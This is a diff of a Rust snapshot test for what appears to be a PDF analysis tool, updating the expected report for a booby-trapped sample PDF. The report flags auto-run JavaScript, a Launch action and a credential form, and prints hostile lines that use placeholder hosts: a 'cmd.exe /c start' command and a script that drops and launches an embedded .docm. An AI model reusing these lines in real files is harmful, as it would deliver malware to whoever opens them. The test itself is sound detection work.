@@ -49,60 +49,58 @@ fn acts_when_opened() {
     check(
         &case("pdf-acts-when-opened"),
         &expect![[r#"
-        pdf
-        > object:7 請求.docm 11 bytes hello world size=11 packed=19 modified=2024-01-02T03:04:05Z
-        version: 1.7
-        object-count: 10
-        cross-references: table
-        triggers:
-        -
-            event: OpenAction
-            kind: JavaScript
-            object: 4
-        -
-            event: Names
-            kind: JavaScript
-            object: 5
-        pages: 1
-        actions:
-        -
-            kind: GoToR
-            count: 1
-        -
-            kind: JavaScript
-            count: 2
-        -
-            kind: Launch
-            count: 1
-        -
-            kind: SubmitForm
-            count: 1
-        links:
-        - /c start https://run.example/x
-        - \\\\files.example\\share\\x.pdf
-        - https://collect.example/p
-        filters:
-        - ASCIIHexDecode
-        - FlateDecode
-        disguised-names:
-        - JS
-        - JavaScript
-        members: 1
-        lock None NotNeeded
-        * auto-exec object:4
-        * runs-command object:3
-        * external-link object:3
-        * script script:6
-        * credential-form object:10
-        * obfuscated 
-        * embedded-file object:7
-        Link link:3: /c start https://run.example/x
-        Code object:3: cmd.exe /c start https://run.example/x
-        Code script:6: var u = \'https://drop.example/stage\'; this.exportDataObject({cName: \'a.docm\', nLaunch: 2});
-        Code script:5: app.alert(2)
-        Link link:9: \\\\files.example\\share\\x.pdf
-        Link link:10: https://collect.example/p
-    "#]],
+            pdf
+            > object:7 請求.docm 11 bytes hello world size=11 packed=19 modified=2024-01-02T03:04:05Z
+            version: 1.7
+            object-count: 10
+            cross-references: table
+            triggers:
+            -
+                event: OpenAction
+                kind: JavaScript
+                object: 4
+            -
+                event: Names
+                kind: JavaScript
+                object: 5
+            pages: 1
+            actions:
+            -
+                kind: GoToR
+                count: 1
+            -
+                kind: JavaScript
+                count: 2
+            -
+                kind: Launch
+                count: 1
+            -
+                kind: SubmitForm
+                count: 1
+            links:
+            - \\\\files.example\\share\\x.pdf
+            - https://collect.example/p
+            filters:
+            - ASCIIHexDecode
+            - FlateDecode
+            disguised-names:
+            - JS
+            - JavaScript
+            members: 1
+            lock None NotNeeded
+            * auto-exec object:4
+            * runs-command object:3
+            * script script:6
+            * external-link object:9
+            * credential-form object:10
+            * obfuscated 
+            * embedded-file object:7
+            Code object:3: cmd.exe /c start https://run.example/x
+            Code script:6: var u = \'https://drop.example/stage\'; this.exportDataObject({cName: \'a.docm\', nLaunch: 2});
+            Code script:5: app.alert(2)
+            Link link:9: \\\\files.example\\share\\x.pdf
+            Link link:10: https://collect.example/p
+        "#]],
     );
 }
 
